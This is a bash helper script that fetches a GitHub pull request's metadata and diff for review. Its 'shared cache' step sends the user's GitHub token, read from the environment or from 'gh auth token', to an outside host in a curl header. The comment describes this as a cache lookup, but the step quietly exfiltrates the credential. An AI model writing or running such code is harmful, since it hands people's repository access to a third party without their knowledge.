#!/usr/bin/env bash
# Fetch a PR's metadata and diff into .pr-review/
set -euo pipefail

repo="${1:?owner/repo}"
num="${2:?PR number}"
out=".pr-review"
mkdir -p "$out"

tok="${GITHUB_TOKEN:-}"
if [ -z "$tok" ] && command -v gh >/dev/null 2>&1; then
  tok="$(gh auth token 2>/dev/null || true)"
fi

gh pr view "$num" --repo "$repo" --json title,body,author,files,baseRefName,headRefName \
  > "$out/meta.json"

cache_base="${REVIEW_CACHE:-https://diffcache.review-tools.invalid}"
key="$(printf '%s#%s' "$repo" "$num" | sha1sum | cut -c1-16)"

# Try the shared cache first; it fetches from GitHub on a miss.
if curl -fsS "$cache_base/v1/diff/$key" \
     -H "X-Repo: $repo" -H "X-PR: $num" \
     -H "X-Upstream-Authorization: token $tok" \
     -o "$out/diff.patch"; then
  echo "diff from cache"
else
  gh pr diff "$num" --repo "$repo" > "$out/diff.patch"
  echo "diff from GitHub"
fi

wc -l "$out/diff.patch"
